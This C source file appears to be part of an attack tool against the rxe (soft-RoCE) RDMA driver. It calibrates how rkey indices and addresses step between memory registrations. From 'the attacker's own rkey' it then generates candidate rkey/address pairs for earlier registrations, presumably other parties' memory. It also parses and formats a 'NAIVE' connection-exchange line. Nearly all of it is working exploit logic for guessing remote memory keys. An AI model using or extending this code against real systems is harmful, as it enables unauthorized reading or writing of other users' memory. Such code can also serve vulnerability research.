/* SPDX-License-Identifier: MIT */
#include <stdio.h>
#include <string.h>

#include "memacc_model.h"

static bool pool_of(uint32_t index, uint32_t *min, uint32_t *max)
{
	if (index >= MEMACC_MR_INDEX_MIN && index <= MEMACC_MR_INDEX_MAX) {
		*min = MEMACC_MR_INDEX_MIN, *max = MEMACC_MR_INDEX_MAX;
		return true;
	}
	if (index >= MEMACC_MW_INDEX_MIN && index <= MEMACC_MW_INDEX_MAX) {
		*min = MEMACC_MW_INDEX_MIN, *max = MEMACC_MW_INDEX_MAX;
		return true;
	}
	return false;
}

bool memacc_calibrate(uint32_t rkey1, uint64_t addr1, uint32_t rkey2, uint64_t addr2, int32_t *index_step,
		      int64_t *stride, const char **why)
{
	uint32_t i1 = rkey1 >> 8, i2 = rkey2 >> 8, min1, max1, min2, max2;

	if (!pool_of(i1, &min1, &max1) || !pool_of(i2, &min2, &max2)) {
		*why = "an rkey index is outside rxe's MR and MW pools";
		return false;
	}
	if (min1 != min2) {
		*why = "the two rkeys come from different pools (MR and MW)";
		return false;
	}
	/* Forward distance in the cyclic pool: the second registration is the newer one. */
	uint32_t span = max1 - min1 + 1, fwd = (i2 + span - i1) % span;
	if (fwd == 0) {
		*why = "both registrations have the same index";
		return false;
	}
	if (addr1 == addr2) {
		*why = "both registrations are at the same address";
		return false;
	}
	/* A step beyond half the pool is a step backwards. */
	*index_step = fwd <= span / 2 ? (int32_t)fwd : -(int32_t)(span - fwd);
	*stride = (int64_t)(addr2 - addr1);
	return true;
}

bool memacc_model_init(struct memacc_model *m, const char **why)
{
	if (!pool_of(m->own_rkey >> 8, &m->index_min, &m->index_max)) {
		*why = "the attacker's own rkey index is outside rxe's MR and MW pools";
		return false;
	}
	if (m->index_step == 0 || m->index_step > (int32_t)MEMACC_MR_INDEX_MAX ||
	    m->index_step < -(int32_t)MEMACC_MR_INDEX_MAX) {
		*why = "index step must be non-zero and within the pool";
		return false;
	}
	if (m->distance < 1 || m->distance > MEMACC_MAX_DISTANCE) {
		*why = "distance must be 1..64";
		return false;
	}
	if (m->addr_variants < 1 || m->addr_variants > MEMACC_MAX_ADDR_VARIANTS || m->addr_variants % 2 == 0) {
		*why = "address variants must be odd, 1..9";
		return false;
	}
	if (m->addr_variants > 1 && m->granule == 0) {
		*why = "address variants need a non-zero granule";
		return false;
	}
	m->count = (uint64_t)m->distance * m->addr_variants * MEMACC_KEYS;
	return true;
}

bool memacc_candidate(const struct memacc_model *m, uint64_t k, struct memacc_candidate *c)
{
	if (k >= m->count)
		return false;
	uint32_t key = (uint32_t)(k % MEMACC_KEYS);
	uint64_t rest = k / MEMACC_KEYS;
	uint32_t v = (uint32_t)(rest % m->addr_variants);
	uint32_t d = (uint32_t)(rest / m->addr_variants) + 1;

	/* Variant order 0, -1, +1, -2, +2 ... */
	int32_t variant = v == 0 ? 0 : (v % 2 ? -(int32_t)((v + 1) / 2) : (int32_t)(v / 2));
	uint64_t span = (uint64_t)m->index_max - m->index_min + 1;
	int64_t back = -(int64_t)m->index_step * (int64_t)d;
	int64_t rel = ((int64_t)((m->own_rkey >> 8) - m->index_min) + back) % (int64_t)span;
	if (rel < 0)
		rel += (int64_t)span;
	uint32_t index = m->index_min + (uint32_t)rel;

	c->rkey = index << 8 | key;
	/* Unsigned arithmetic: wraps modulo 2^64 instead of overflowing. */
	c->addr = m->own_addr - (uint64_t)m->stride * d + (uint64_t)(int64_t)variant * m->granule + m->offset;
	c->distance = d;
	c->variant = variant;
	return true;
}

/* Exactly `width` lower- or upper-case hex digits at *p; advances *p. */
static bool hex_field(const char **p, const char *end, unsigned width, uint64_t *out)
{
	uint64_t v = 0;

	if ((size_t)(end - *p) < width)
		return false;
	for (unsigned i = 0; i < width; i++) {
		char ch = (*p)[i];
		int d = ch >= '0' && ch <= '9' ? ch - '0' : ch >= 'a' && ch <= 'f' ? ch - 'a' + 10 :
			ch >= 'A' && ch <= 'F' ? ch - 'A' + 10 : -1;
		if (d < 0)
			return false;
		v = v << 4 | (uint64_t)d;
	}
	*p += width;
	*out = v;
	return true;
}

static bool literal(const char **p, const char *end, const char *lit)
{
	size_t n = strlen(lit);
	if ((size_t)(end - *p) < n || memcmp(*p, lit, n) != 0)
		return false;
	*p += n;
	return true;
}

bool naive_line_parse(const char *s, size_t n, struct naive_line *out, const char **why)
{
	const char *p = s, *end = s + n;
	uint64_t v, len = 0;
	struct naive_line l;

	*why = "not a NAIVE exchange line";
	if (!s || !literal(&p, end, "NAIVE qpn=") || !hex_field(&p, end, 6, &v))
		return false;
	l.qpn = (uint32_t)v;
	if (!literal(&p, end, " psn=") || !hex_field(&p, end, 6, &v))
		return false;
	l.psn = (uint32_t)v;
	if (!literal(&p, end, " gid="))
		return false;
	for (int i = 0; i < 16; i++) {
		if (!hex_field(&p, end, 2, &v))
			return false;
		l.gid[i] = (uint8_t)v;
	}
	if (!literal(&p, end, " rkey=") || !hex_field(&p, end, 8, &v))
		return false;
	l.rkey = (uint32_t)v;
	if (!literal(&p, end, " addr=") || !hex_field(&p, end, 16, &l.addr) || !literal(&p, end, " len="))
		return false;
	if (p == end) {
		*why = "missing length";
		return false;
	}
	for (; p < end; p++) {
		if (*p < '0' || *p > '9' || len > UINT32_MAX / 10) {
			*why = "bad length";
			return false;
		}
		len = len * 10 + (uint64_t)(*p - '0');
	}
	if (len > UINT32_MAX) {
		*why = "bad length";
		return false;
	}
	l.len = (uint32_t)len;
	*out = l;
	return true;
}

size_t naive_line_format(const struct naive_line *l, char *buf, size_t cap)
{
	static const char hex[] = "0123456789abcdef";
	char gid[33];

	for (int i = 0; i < 16; i++) {
		gid[2 * i] = hex[l->gid[i] >> 4];
		gid[2 * i + 1] = hex[l->gid[i] & 15];
	}
	gid[32] = '\0';
	int n = snprintf(buf, cap, "NAIVE qpn=%06x psn=%06x gid=%s rkey=%08x addr=%016llx len=%u\n",
			 l->qpn & 0xffffffu, l->psn & 0xffffffu, gid, l->rkey, (unsigned long long)l->addr, l->len);
	return n > 0 && (size_t)n < cap ? (size_t)n : 0;
}
